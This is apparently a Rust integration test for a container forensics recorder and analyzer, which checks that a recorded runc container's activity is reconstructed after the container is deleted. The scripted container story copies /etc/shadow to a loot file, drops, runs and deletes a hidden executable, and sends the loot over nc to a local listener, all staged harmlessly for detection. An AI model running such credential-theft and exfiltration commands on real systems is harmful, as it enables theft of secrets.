//! A real container, recorded by the real recorder, told after it is gone. Needs root, BTF, runc, busybox and the
//! `capture` binary (beside `analyze`, or named by `AFTERIMAGE_CAPTURE`); says that it is skipped where one is missing.

use afterimage_format::file::Trace;
use afterimage_query::TraceContext;
use afterimage_query::check::TimeZone;
use afterimage_query::sessions::{Side, frames, sessions};
use serde_json::{Value, json};
use std::fs;
use std::io::Write as _;
use std::ops::ControlFlow;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

/// What the container does. Programs are called by their paths: the shell of busybox would run its own otherwise.
const STORY: &str = "\
    /bin/ip link set lo up\n\
    /bin/cat /etc/shadow > /tmp/loot\n\
    /bin/cp /bin/true /tmp/.hidden\n\
    /bin/chmod 755 /tmp/.hidden\n\
    /tmp/.hidden\n\
    /bin/rm /tmp/.hidden\n\
    /bin/nc -l -p 4444 > /tmp/got &\n\
    /bin/sleep 0.3\n\
    /bin/nc 127.0.0.1 4444 < /tmp/loot\n\
    /bin/touch /tmp/waiting\n\
    while [ -e /tmp/waiting ]; do /bin/sleep 0.05; done\n\
    exit 7\n";

const PROGRAMS: [&str; 10] = ["sh", "ip", "cat", "cp", "chmod", "rm", "nc", "sleep", "touch", "id"];

#[test]
fn a_real_container_is_told_after_it_is_gone() {
    let name = "a_real_container_is_told_after_it_is_gone";
    let capture = match needs() {
        Ok(capture) => capture,
        Err(reason) => return skip(name, &reason),
    };
    let folder = tempfile::tempdir().expect("a folder");
    let id = format!("afterimage-told-{}", std::process::id());
    let trace = folder.path().join("t.scap");
    record(&capture, folder.path(), &trace, &id);

    let info: Value = serde_json::from_str(&analyze(&["info", "--json"], &trace)).expect("JSON");
    assert_eq!(info["complete"], true, "{info}");
    assert_eq!(info["containers"].as_array().map(Vec::len), Some(1), "{info}");
    assert_eq!(info["containers"][0]["id"], json!(id));
    assert!(info["containers"][0]["deleted"].is_string(), "{info}");

    let told: Vec<Value> = analyze(&["timeline", "--json"], &trace)
        .lines()
        .map(|line| serde_json::from_str(line).expect("JSON"))
        .collect();
    assert!(
        told.iter().all(|line| line["container_id"] == json!(id)),
        "every line names the container"
    );
    let find = |verb: &str, process: &str, object: &str| {
        let fits = |line: &&Value| {
            line["verb"] == verb
                && line["process"] == process
                && line["object"].as_str().is_some_and(|text| text.contains(object))
        };
        let mut found = told.iter().filter(fits);
        let first = found
            .next()
            .unwrap_or_else(|| panic!("no line: {process} {verb} {object}; told was: {told:#?}"));
        assert_eq!(found.count(), 0, "told twice: {process} {verb} {object}");
        first
    };
    let note = |line: &Value, kind: &str| {
        let notes = line["notes"].as_array().expect("notes");
        let found = notes.iter().find(|note| note["kind"] == kind);
        found.unwrap_or_else(|| panic!("no note {kind} in {line:#}"))["text"]
            .as_str()
            .expect("text")
            .to_string()
    };

    let program = find("exec", "sh", "/bin/sh /story.sh");
    assert_eq!(
        (&program["depth"], &program["exit_code"], &program["vpid"]),
        (&json!(0), &json!(7), &json!(1))
    );
    assert!(
        told.iter().any(|line| line["verb"] == "set-up"),
        "the runtime's work is one line"
    );
    assert!(told.iter().filter(|line| line["verb"] == "set-up").count() <= 2);

    let shadow = find("read", "cat", "/etc/shadow");
    assert_eq!(
        (&shadow["notable"], &shadow["parent"], &shadow["bytes"]),
        (&json!(true), &json!("sh"), &json!(9))
    );
    assert!(note(find("write", "cat", "/tmp/loot"), "after").contains("/etc/shadow"));

    let dropped = find("exec", ".hidden", "/tmp/.hidden");
    assert!(note(dropped, "written_by").starts_with("dropped by cp("), "{dropped:#}");
    assert!(note(dropped, "made_executable_by").starts_with("made executable by chmod("));
    assert!(note(dropped, "deleted_by").starts_with("deleted by rm("));
    assert_eq!(dropped["ancestors"][0]["process"], "sh");

    let sent = find("connect", "nc", "127.0.0.1:4444");
    assert_eq!(sent["sent"], 9);
    assert!(
        note(sent, "after").contains("/tmp/loot (written after reading /etc/shadow)"),
        "{sent:#}"
    );
    assert_eq!(find("accept", "nc", "127.0.0.1:4444")["received"], 9);

    let entered = find("exec", "id", "/bin/id -u");
    assert!(note(entered, "entered").contains("from outside"));

    // While nc connected, the shell was alive, and the listening nc was its child.
    let at = sent["time"].as_str().expect("a time");
    let alive: Vec<Value> = analyze(&["ps", "--json", "--at", at], &trace)
        .lines()
        .map(|line| serde_json::from_str(line).expect("JSON"))
        .collect();
    let names: Vec<&str> = alive.iter().filter_map(|process| process["name"].as_str()).collect();
    assert_eq!(names, ["sh", "nc", "nc"], "{alive:#?}");
    assert!(alive.iter().skip(1).all(|process| process["ppid"] == program["pid"]));
    assert_eq!(analyze(&["ps", "--json"], &trace), "", "nobody is left");

    // What they had open then.
    let listed = |command: &str| -> Vec<Value> {
        analyze(&[command, "--json", "--process", "nc", "--at", at], &trace)
            .lines()
            .map(|line| serde_json::from_str(line).expect("JSON"))
            .collect()
    };
    let files = listed("files");
    let has = |pid: &Value, fd: i32, name: &str| {
        let is = |file: &Value| file["pid"] == *pid && file["fd"] == fd && file["name"] == name;
        assert!(files.iter().any(is), "{fd} is not {name}: {files:#?}");
    };
    let connections = listed("connections");
    let the = |role: &str| {
        let found = connections.iter().find(|connection| connection["role"] == role);
        found.unwrap_or_else(|| panic!("no {role}: {connections:#?}"))
    };
    let (client, listening) = (the("client"), the("listening"));
    assert_eq!(
        (&client["remote_port"], &listening["local_port"]),
        (&json!(4444), &json!(4444))
    );
    assert_eq!(client["container_id"], json!(id));
    has(&client["pid"], 0, "/tmp/loot");
    has(&listening["pid"], 1, "/tmp/got");
    assert_eq!(analyze(&["files", "--json"], &trace), "", "nothing is left open");
}

/// Runs `analyze` on a trace.
fn analyze(arguments: &[&str], trace: &Path) -> String {
    let done = Command::new(env!("CARGO_BIN_EXE_analyze"))
        .args(arguments)
        .arg(trace)
        .output()
        .expect("analyze runs");
    let stderr = String::from_utf8_lossy(&done.stderr);
    assert!(
        done.status.success(),
        "analyze {arguments:?}: {}: {stderr}",
        done.status
    );
    String::from_utf8(done.stdout).expect("UTF-8")
}

/// Records a container from before its creation until after its deletion.
fn record(capture: &Path, folder: &Path, trace: &Path, id: &str) {
    let bundle = bundle(folder, id);
    let runc = |arguments: &[&str]| {
        let mut runc = Command::new("runc");
        runc.arg("--root")
            .arg(folder.join("runc"))
            .args(arguments)
            .current_dir(&bundle)
            .stdin(Stdio::null());
        runc.stdout(Stdio::null());
        runc
    };
    let ready = folder.join("ready");
    let recorder = Command::new(capture)
        .args(["record", "--container", id, "-o"])
        .arg(trace)
        .arg("--ready-file")
        .arg(&ready)
        .stderr(Stdio::null())
        .spawn()
        .expect("the recorder starts");
    let mut recorder = Ended(recorder);
    wait_for("the recorder", || ready.exists());
    let mut container = Ended(runc(&["run", id]).spawn().expect("runc starts"));
    let waiting = bundle.join("rootfs/tmp/waiting");
    wait_for("the container's work", || waiting.exists());
    assert!(
        runc(&["exec", id, "/bin/id", "-u"])
            .status()
            .expect("runc runs")
            .success()
    );
    fs::remove_file(waiting).expect("the container waits for it");
    assert_eq!(container.0.wait().expect("a child").code(), Some(7));
    // `runc run` deletes the container; its files go now.
    fs::remove_dir_all(&bundle).expect("the bundle");
    // SAFETY: kill touches no memory; the child has not been waited for.
    assert_eq!(unsafe { libc::kill(recorder.0.id() as libc::pid_t, libc::SIGINT) }, 0);
    assert!(
        recorder.0.wait().expect("a child").success(),
        "the recorder lost something"
    );
}

/// A bundle with busybox and the story.
fn bundle(folder: &Path, id: &str) -> PathBuf {
    let bundle = folder.join("bundle");
    let rootfs = bundle.join("rootfs");
    for inner in ["bin", "etc", "proc", "dev", "sys", "tmp"] {
        fs::create_dir_all(rootfs.join(inner)).expect("a folder");
    }
    let busybox = find("busybox").expect("was looked for before");
    fs::copy(busybox, rootfs.join("bin/busybox")).expect("room on the disk");
    for program in PROGRAMS {
        symlink("busybox", rootfs.join("bin").join(program)).expect("a link");
    }
    // A program of its own: a copy of busybox would not know what to be under another name.
    let truth = rootfs.join("bin/true");
    fs::write(&truth, "#!/bin/sh\nexit 0\n").expect("room on the disk");
    fs::set_permissions(&truth, fs::Permissions::from_mode(0o755)).expect("a mode");
    fs::write(rootfs.join("etc/shadow"), "root:*:1\n").expect("room on the disk");
    fs::write(rootfs.join("story.sh"), STORY).expect("room on the disk");

    assert!(
        Command::new("runc")
            .arg("spec")
            .current_dir(&bundle)
            .status()
            .expect("runc runs")
            .success()
    );
    let path = bundle.join("config.json");
    let mut config: Value = serde_json::from_slice(&fs::read(&path).expect("the example")).expect("JSON");
    config["process"]["terminal"] = json!(false);
    config["process"]["args"] = json!(["/bin/sh", "/story.sh"]);
    config["process"]["env"] = json!(["PATH=/bin"]);
    for set in ["bounding", "effective", "permitted"] {
        config["process"]["capabilities"][set] = json!(["CAP_NET_ADMIN", "CAP_KILL"]);
    }
    config["root"]["readonly"] = json!(false);
    config["linux"]["cgroupsPath"] = json!(format!("/{id}"));
    fs::write(&path, config.to_string()).expect("room on the disk");
    bundle
}

/// A child that does not outlive the test.
struct Ended(Child);

impl Drop for Ended {
    fn drop(&mut self) {
        // Both fail only where it has ended already.
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn wait_for(what: &str, mut done: impl FnMut() -> bool) {
    let start = Instant::now();
    while !done() {
        assert!(start.elapsed() < Duration::from_secs(60), "waited in vain for {what}");
        std::thread::sleep(Duration::from_millis(5));
    }
}

/// What a terminal showed and what was typed, from a real recording of `script`.
#[test]
fn a_real_terminal_session_is_found_and_replayed() {
    let name = "a_real_terminal_session_is_found_and_replayed";
    let capture = match needs() {
        Ok(_) if find("script").is_none() => return skip(name, "script is not installed"),
        Ok(capture) => capture,
        Err(reason) => return skip(name, &reason),
    };
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path().join("t.scap");
    let mut recorder = Command::new(capture)
        .args(["record", "-o"])
        .arg(&path)
        .args([
            "--",
            "script",
            "-qc",
            "printf 'one\\n'; read x; echo got $x",
            "/dev/null",
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("the recorder starts");
    let mut stdin = recorder.stdin.take().expect("its standard input");
    stdin.write_all(b"typed\n").expect("somebody who reads");
    drop(stdin);
    let done = recorder.wait_with_output().expect("the recorder ends");
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));

    let trace = Trace::open(&path).expect("the trace opens");
    let context = TraceContext::new(&trace, TimeZone::Utc);
    let all = sessions(&trace, &context, &|| false).expect("not cancelled");
    let [session] = &all.list[..] else {
        panic!("{:?}", all.list)
    };
    assert_eq!((session.side, session.lacks), (Side::Master, 0));
    assert_eq!(session.processes[0].name, b"script");
    let (mut shown, mut typed) = (Vec::new(), Vec::new());
    frames(&trace, &context, session, &|| false, |frame| {
        if frame.typed { &mut typed } else { &mut shown }.extend(frame.data);
        ControlFlow::Continue(())
    });
    let shown = String::from_utf8(shown).expect("text");
    for line in ["one\r\n", "typed\r\n", "got typed\r\n"] {
        assert!(shown.contains(line), "{shown:?}");
    }
    assert!(typed.starts_with(b"typed\n"), "{typed:?}");
    assert_eq!(session.bytes_out, shown.len() as u64);
}

/// The recorder, or what is missing here.
fn needs() -> Result<PathBuf, String> {
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        return Err("not root".to_string());
    }
    if !Path::new("/sys/kernel/btf/vmlinux").exists() {
        return Err("this kernel has no BTF".to_string());
    }
    for program in ["runc", "busybox"] {
        find(program).ok_or_else(|| format!("{program} is not installed"))?;
    }
    let beside = Path::new(env!("CARGO_BIN_EXE_analyze")).with_file_name("capture");
    let capture = std::env::var_os("AFTERIMAGE_CAPTURE").map_or(beside, PathBuf::from);
    if capture.is_file() {
        Ok(capture)
    } else {
        Err("the capture binary is not built".to_string())
    }
}

fn find(program: &str) -> Option<PathBuf> {
    let path = std::env::var_os("PATH")?;
    std::env::split_paths(&path)
        .map(|folder| folder.join(program))
        .find(|file| file.is_file())
}

fn skip(name: &str, reason: &str) {
    println!("SKIPPED: {name}: {reason}");
    if let Some(log) = std::env::var_os("AFTERIMAGE_SKIP_LOG") {
        let mut log = fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(log)
            .expect("the log of skipped tests");
        writeln!(log, "SKIPPED: {name}: {reason}").expect("room on the disk");
    }
}
